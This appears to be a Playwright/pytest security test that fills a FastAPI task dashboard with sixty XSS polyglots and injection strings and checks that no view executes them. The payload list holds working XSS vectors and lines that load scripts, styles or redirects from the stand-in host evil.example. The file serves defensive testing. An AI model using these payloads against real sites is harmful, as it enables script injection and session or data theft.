"""Text of others, in every place that it can be in, runs nowhere."""

import json
from urllib.parse import quote

import httpx2
import pytest
from playwright.sync_api import Page, expect

from tests.dashboard.looking import PATIENCE_MS, Look, Looking
from tests.support.servers import Server

POLYGLOTS = [
    "<script>window.__pwn=1</script>",
    "\"><img src=x onerror='window.__pwn=1'>",
    "'><svg/onload=window.__pwn=1>",
    "javascript:window.__pwn=1//",
    "</title></textarea></style><script>window.__pwn=1</script>",
    "<a href=javascript:window.__pwn=1>x</a>",
    "<!--<script>-->window.__pwn=1",
    "&lt;script&gt;&#x3c;script&#62;window.__pwn=1",
    "'-window.__pwn-'`${window.__pwn=1}`{{constructor.constructor('window.__pwn=1')()}}",
    "<iframe srcdoc='<script>top.__pwn=1</script>'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/><form action=//evil.example><input type=submit>",
    "\uff1cscript\uff1ewindow.__pwn=1\uff1c/script\uff1e",
    "<details open ontoggle=window.__pwn=1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwn=1>",
    "%3Cscript%3Ewindow.__pwn=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.__pwn=1",
    "__proto__",
    "constructor",
    "\u202egnp.exe \u2066<b>",
    "hasOwnProperty",
    "toString",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x:x onerror=window.__pwn=1//",
    "<body onload=window.__pwn=1>",
    "<input autofocus onfocus=window.__pwn=1>",
    "<select autofocus onfocus=window.__pwn=1>",
    "<video><source onerror=window.__pwn=1>",
    "<audio src=x onerror=window.__pwn=1>",
    "<object data=javascript:window.__pwn=1>",
    "<embed src=javascript:window.__pwn=1>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(//evil.example/x)>",
    "<svg><script>window.__pwn=1</script></svg>",
    "<svg><animate onbegin=window.__pwn=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload=window.__pwn=1>'/></svg>",
    "<marquee onstart=window.__pwn=1>",
    "<template><script>window.__pwn=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwn=1>'>",
    "<textarea></textarea><img src=x onerror=window.__pwn=1>",
    "<xmp></xmp><img src=x onerror=window.__pwn=1>",
    "<a href='data:text/html,<script>top.__pwn=1</script>'>x</a>",
    "<a href=vbscript:window.__pwn=1>x</a>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.__pwn=1 )//",
    '" autofocus onfocus=window.__pwn=1 x="',
    "' style='x:expression(window.__pwn=1)' x='",
    "`onmouseover=window.__pwn=1`",
    "${window.__pwn=1}",
    "#{window.__pwn=1}",
    "<%= window.__pwn=1 %>",
    "{{7*7}}[[window.__pwn=1]]",
    "]]><script>window.__pwn=1</script>",
    "</script><script>window.__pwn=1</script>",
    '\\"};window.__pwn=1;//',
    "');window.__pwn=1;('",
    "//evil.example/%2e%2e",
    "..%2f..%2fqueues",
    "?next=//evil.example#<img src=x onerror=window.__pwn=1>",
    '=HYPERLINK("//evil.example";"x")',
]

APP = f"""
from itertools import cycle
from fastapi import Depends, FastAPI
from fastapi_taskflow import (
    AuthUser, QueueConfig, TaskAdmin, TaskManager, get_task_context, task_log
)

POLYGLOTS = {json.dumps(POLYGLOTS)}
# Text that is not printable is no name, but may be all else.
NAMES = [one if one.isprintable() else "plain" for one in POLYGLOTS]
app = FastAPI()
tasks = TaskManager(
    snapshot_db="tasks.db",
    queues={{one: QueueConfig(concurrency=1) for one in POLYGLOTS if one.isprintable()}},
)
users = cycle(one for one in POLYGLOTS if one.isprintable())
TaskAdmin(
    app, tasks, display_func_args=True, title=POLYGLOTS[0],
    dependencies=[Depends(lambda: None)],
    role=Depends(lambda: AuthUser(next(users), "admin")),
)
functions = []
for text, one in zip(POLYGLOTS, NAMES):
    @tasks.task(name=one, persist=True, retries=1, queue=one if one == text else None)
    async def tell(text: str, **more: str) -> None:
        task_log(text)
        get_task_context().progress(1, 2, text)
        raise type(text, (RuntimeError,), {{}})(text)
    functions.append(tell)
    @tasks.schedule(every=86400, name=one)
    async def keep() -> None:
        pass
    keep

@app.post("/fill")
async def fill() -> list[str]:
    ids = []
    for func, one in zip(functions, POLYGLOTS):
        tags = {{one.replace(":", ";")[:40]: one}}
        ids.append((await tasks.enqueue(func, one, tags=tags, **{{one: one}})).task_id)
    return ids
"""

SHOWN = """
(texts) => {
  const shown = document.querySelector("main").textContent;
  return texts.every((text) => shown.includes(text));
}
"""

# One place after the other, within the page: each is seen to show what it is about, then whether
# anything ran.
VISIT = """
async ([places, selector, patience]) => {
  for (const [place, wanted] of places) {
    history.pushState(null, "", place);
    dispatchEvent(new PopStateEvent("popstate"));
    const until = performance.now() + patience;
    const shown = () => document.querySelector(selector)?.textContent ?? "";
    while (!shown().includes(wanted)) {
      if (performance.now() > until) return `${place} shows ${shown()} in place of ${wanted}`;
      await new Promise(requestAnimationFrame);
    }
    if (window.__pwn !== undefined) return `${place} ran something`;
  }
  return null;
}
"""

expect.set_options(timeout=PATIENCE_MS)


def test_there_are_sixty():
    assert len(set(POLYGLOTS)) == 60


@pytest.fixture(scope="module")
def tasks(server: Server) -> list[dict[str, str]]:
    """Hostile text in every field; the tasks in the order of the polyglots."""
    with httpx2.Client(base_url=server.url, timeout=60) as client:
        ids: list[str] = client.post("/fill").json()
        found = [ended(client, task_id) for task_id in ids]
        for text in POLYGLOTS:
            client.patch(f"/tasks/queues/{quote(text, safe='')}", json={"max_size": 5})
            client.post("/tasks/pauses", json={"tag": f"a:{text}"})
            client.post("/tasks/pauses", json={"key": text})
        client.post("/tasks/bulk-retry", json={"task_ids": ids[:3]})
        client.post("/tasks/bulk", json={"action": "cancel", "filter": {"q": POLYGLOTS[0]}})
        return found


def ended(client: httpx2.Client, task_id: str) -> dict[str, str]:
    while True:
        task: dict[str, str] = client.get(f"/tasks/{task_id}").json()
        if task["end_time"] is not None:
            return task


@pytest.mark.parametrize("view", ["tasks", "failures", "queues", "schedules", "functions"])
def test_all_of_it_is_text_in_a_list(look: Looking, tasks, view):
    # So high that the list of tasks has no row out of sight.
    page = look(viewport={"width": 1280, "height": 4000}).open(f"/{view}")

    page.wait_for_function(SHOWN, arg=[text for text in names() if text != "plain"])
    assert page.evaluate("window.__pwn") is None


@pytest.mark.parametrize("view", ["", "instances", "audit"])
def test_none_of_it_runs_beside_lists(look: Looking, tasks, view):
    page = look().open(f"/{view}")

    expect(page.get_by_role("heading", level=1)).to_be_visible()
    expect(page.get_by_text("Loading…")).to_have_count(0)
    assert page.evaluate("window.__pwn") is None


def test_it_is_text_in_every_task(look: Looking, tasks):
    page = still(look())

    visited(page, ".task h1 .func", "/tasks/", [task["task_id"] for task in tasks], names())


def test_it_is_text_in_every_failure(look: Looking, tasks):
    page = still(look())

    visited(
        page, ".failure > .error", "/failures/", [task["failure"] for task in tasks], printable()
    )


def test_it_is_text_in_every_function(look: Looking, tasks):
    page = still(look())

    visited(page, "h1", "/functions/", names(), names())


def test_it_runs_in_no_address(look: Looking, tasks):
    page = still(look())

    visited(page, "main", "/", printable()[:2], ["There is no"] * 2)
    searches = [f"?q={quote(text)}&tag=a:{quote(text)}&func_name={quote(text)}" for text in names()]
    visited(page, "h1", "/tasks", searches, ["Tasks"] * len(POLYGLOTS), quoted=True)
    visited(page, "main", "/nowhere/", printable(), ["There is no"] * len(POLYGLOTS))


def still(look: Look) -> Page:
    """A page without a stream: sixty of them in a minute are for no server."""
    look.page.route("**/dashboard/stream**", lambda route: route.abort())
    page = look.open("/schedules")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    return page


def names() -> list[str]:
    return [text if text.isprintable() else "plain" for text in POLYGLOTS]


def printable() -> list[str]:
    return [text if text.isprintable() else "" for text in POLYGLOTS]


def visited(
    page: Page,
    selector: str,
    prefix: str,
    ends: list[str],
    wanted: list[str],
    *,
    quoted: bool = False,
) -> None:
    """Each place shows what is wanted where it is selected, and nothing runs."""
    root = page.url.partition("/tasks/dashboard")[0] + "/tasks/dashboard"
    places = [f"{root}{prefix}{end if quoted else quote(end, safe='')}" for end in ends]
    pairs = list(zip(places, wanted, strict=True))
    assert page.evaluate(VISIT, [pairs, selector, PATIENCE_MS]) is None
